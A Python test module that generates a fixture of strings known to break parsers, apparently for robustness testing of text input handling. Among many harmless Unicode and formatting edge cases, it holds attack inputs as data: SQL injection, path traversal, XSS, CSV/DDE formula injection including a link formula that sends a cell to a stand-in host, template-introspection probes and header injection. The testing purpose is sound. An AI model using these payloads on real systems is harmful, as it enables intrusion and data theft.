"""Texts that programs have choked on, of our own making: a list by hand, and families by rule.

`python -m tests.hostile_strings` writes them to tests/data/hostile_strings.json,
in ASCII alone; a text that is one stretch over and over is kept as that stretch.
"""

import json
import unicodedata
from collections.abc import Iterator
from pathlib import Path

DATA = Path(__file__).parent / "data" / "hostile_strings.json"

BLANKS = " \t\n\r\v\f\x85\xa0\u1680\u2000\u2003\u2009\u200a\u2028\u2029\u202f\u205f\u3000"
UNSEEN = (
    "\u00ad\u034f\u061c\u115f\u17b4\u180e\u200b\u200c\u200d\u200e\u200f\u2060\u2061\u2064\ufeff"
)
TURNING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
NOT_CHARACTERS = "\ufffe\uffff\ufdd0\ufdef\U0001fffe\U0010ffff\ufffd\ufffc\ufff9\ufffa\ufffb\ue000"
HALVES = ("\ud800", "\udfff", "a\ud83d", "\ude00b", "\ud83d\ud83d", "\udc00\ud800", "x\udbffy")
DEVICES = ("CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "CONIN$", "CLOCK$")
ENDINGS = ("", ".txt", " ", ".", ":stream")
FORMULA_SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "\ufeff=",
    " =",
    "'=",
)
FORMULAS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://192.0.2.1/?"&A1)', "SUM(A1:A9)")
TAGS = ("b", "i", "u", "para", "font", "a", "img", "br", "seq", "onDraw", "bullet", "link", "super")
SCRIPTS = (
    *("العربية أولا", "עברית קודם", "فارسی", "हिन्दी में", "ไทยครับ", "中文字", "日本語の", "한국어로"),
    *(
        "ελληνικά",
        "русский",
        "አማርኛ",
        "ქართული",
        "հայերեն",
        "தமிழ்",
        "ខ្មែរ",
        "བོད་ཡིག",
        "Ŵŷ Ẁỳ Cymraeg",
    ),
)
EMOJI = (
    *("😀", "👩‍⚕️", "👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇬🇧", "👍🏿", "❤️", "1️⃣", "☺︎", "🫠", "🧑🏽‍🦽‍➡️"),
    *("🇬", "\U0001f3fb", "\u200d👩", "\ufe0f", "🏳️‍🌈🏳️‍🌈🏳️‍🌈"),
)
NUMBERS = (
    *("NaN", "nan", "-nan", "Infinity", "-inf", "1e999", "-1e-999", "0x1F", "1_000", "٣٤٥", "१२३"),
    *(
        "-0",
        "+0",
        "00",
        "1.",
        ".5",
        "1,5",
        "1.797e308",
        "2147483648",
        "9223372036854775808",
        "½",
        "²",
    ),
    *(
        "-9223372036854775809",
        "18446744073709551616",
        "0b1",
        "1e5",
        "TRUE",
        "null",
        "None",
        "undefined",
    ),
)
BY_HAND = (
    # SQL and search
    *(
        "'; DROP TABLE record; --",
        '" OR ""="',
        "Robert'); --",
        "%",
        "_",
        "\\",
        "a\\",
        "''",
        '"',
        "`",
    ),
    *(
        "NEAR(a b)",
        "text:*",
        '"unclosed',
        "a AND",
        "OR",
        "NOT",
        "(",
        ")",
        "*",
        "^a",
        "a*b*",
        "{a b}:c",
    ),
    *(
        "-- comment",
        "/* comment",
        "; PRAGMA user_version=99",
        "x' UNION SELECT 1--",
        "$1 ?1 :name @name",
    ),
    # Paths
    *(
        "../../etc/passwd",
        "..\\..\\win.ini",
        "/dev/zero",
        "C:\\Windows",
        "\\\\192.0.2.1\\share\\x.png",
    ),
    *(
        "//192.0.2.1/share",
        "file:///etc/hosts",
        "~",
        "~root",
        "$HOME",
        "%APPDATA%",
        "a/b",
        "a\\b",
        "a:b",
    ),
    *(
        ".",
        "..",
        "...",
        ".hidden",
        "name.",
        "name ",
        " name",
        "a|b",
        'a"b',
        "a<b>c",
        "a?b",
        "a*b",
        "a\0b",
    ),
    # Formats and templates
    *(
        "{0}",
        "{}",
        "{title}",
        "{0.__class__}",
        "%s",
        "%n",
        "%(x)s",
        "%1",
        "%%",
        "${x}",
        "{{x}}",
        "{%x%}",
    ),
    *(
        "#{x}",
        "\\n",
        "\\u0041",
        "\\x41",
        "&#x41;",
        "&#0;",
        "&#xD800;",
        "&nbsp;",
        "&bogus;",
        "&amp;lt;",
        "&",
    ),
    # Markup
    *(
        "<",
        ">",
        "<>",
        "</",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?xml?>",
        "<!DOCTYPE x>",
        "<b",
        "<b>",
        "</b>",
    ),
    *(
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "javascript:alert(1)",
        "<svg/onload=x>",
    ),
    *(
        '<a href="file:///c:/calc.exe">x</a>',
        "<style>*{}</style>",
        "<table><tr><td>x",
        "<i><b></i></b>",
    ),
    *(
        "<font color=\"[[[getattr(pow,Word('__globals__'))]]]\">x</font>",
        "<para><para>x</para>",
        "<br/>x<br/>",
    ),
    *(
        "# head",
        "* item",
        "- item",
        "1. item",
        "> quote",
        "```",
        "**strong**",
        "[x](y)",
        "![x](y)",
        "---",
        "***",
    ),
    # JSON and CSV
    *(
        '{"a":1}',
        "[1,2",
        '"',
        "\\",
        "\\\\",
        '\\"',
        "a,b",
        "a;b",
        "a\tb",
        '"a","b"',
        'a""b',
        "sep=;",
        "\x1f",
        "a\nb",
    ),
    *(
        "__proto__",
        "constructor",
        "\x00",
        "\x7f",
        "\x1b[31mred\x1b[0m",
        "\x08\x08",
        "\r\nX-Header: y",
        "\x1a",
    ),
    # Words that other programs read as something else
    *(
        "true",
        "yes",
        "on",
        "1",
        "0",
        "2026-02-30",
        "24:00",
        "1/2",
        "Mar-1",
        "March2",
        "1E2",
        "DEC1",
        "-",
        "--",
        "---",
    ),
    # Places in a text at which it must not break
    *(
        "a b",
        "a\u00a0b",
        "a-b",
        "a\u2011b",
        "don’t",
        "“x”",
        "–",
        "—",
        "…",
        "™",
        "ﬁ",
        "ß",
        "İ",
        "ı",
        "ǅ",
        "K",
        "Å",
    ),
    *(
        "Å",
        "A\u030a",
        "\u0301",
        "e\u0301\u0301",
        "\u1100\u1161\u11a8",
        "Ⅷ",
        "㎏",
        "﷽",
        "ꙮ",
        "𒐫",
        "⸻",
        "\U000e0041",
        "𐍈",
        "𝔘𝔫",
    ),
)


def strings() -> tuple[str, ...]:
    """Return every text once, those by hand first."""
    return tuple(dict.fromkeys((*BY_HAND, *NUMBERS, *EMOJI, *SCRIPTS, *_by_rule(), *_long())))


def _by_rule() -> Iterator[str]:
    for sign in (*BLANKS, *UNSEEN, *TURNING, *NOT_CHARACTERS):
        yield f"a{sign}b"
    yield from HALVES
    yield from (f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0, 4)))
    yield from (device + ending for device in DEVICES for ending in ENDINGS)
    yield from (sign + formula for sign in FORMULA_SIGNS for formula in FORMULAS)
    yield from (f"<{tag} x='1'>text" for tag in TAGS)
    yield from (f"text</{tag}>" for tag in TAGS)
    yield from (f"{script} {turn}{script} (a) 1/2" for script in SCRIPTS for turn in "\u202e\u2067")
    yield from (f"Ward {script}, bay 3: “{script}”" for script in SCRIPTS)
    yield from (unicodedata.normalize("NFD", text) for text in (*SCRIPTS, "Ŵŷ é ü ǭ Ǻ"))
    yield from (f"{mark}{text}{mark}" for mark in "\"'`" for text in ("", "a", "a b"))


def _long() -> Iterator[str]:
    for stretch, times in (
        *(
            ("x", 300),
            ("W", 2_000),
            ("wwww ", 400),
            ("\n", 200),
            ("a\n", 150),
            ("&", 500),
            ("<b>", 300),
        ),
        *(
            ("\u0301", 60),
            ("😀", 300),
            ("👩‍⚕️", 100),
            ("العربية ", 80),
            ("中", 500),
            ("[", 1_500),
            ("{", 1_500),
        ),
        *(
            ("9", 4_301),
            ("9", 4_300),
            ("-9", 900),
            ("/", 600),
            (".", 600),
            ("_", 600),
            ("\u200b", 400),
        ),
        *(
            ("(", 1_000),
            ("<i>", 700),
            ('"', 701),
            ("a\u0308", 400),
            ("1,", 400),
            ("=1+", 300),
            ("\t", 99),
        ),
        *(("x", 20_000), ("word ", 4_000), ("x", 20_001), ("\ud800", 700)),
    ):
        yield stretch * times


def as_json() -> str:
    """Return the texts as they stand in the file."""
    rows = [_folded(text) for text in strings()]
    return "[\n" + ",\n".join(json.dumps(row, ensure_ascii=True) for row in rows) + "\n]\n"


def kept() -> tuple[str, ...]:
    """Return the texts of the file."""
    rows = json.loads(DATA.read_text(encoding="ascii"))
    return tuple(row if isinstance(row, str) else row[0] * row[1] for row in rows)


def _folded(text: str) -> str | list[object]:
    for length in range(1, 8):
        times = len(text) // length
        if len(text) > 120 and text[:length] * times == text:
            return [text[:length], times]
    return text


if __name__ == "__main__":
    DATA.write_text(as_json(), encoding="ascii")
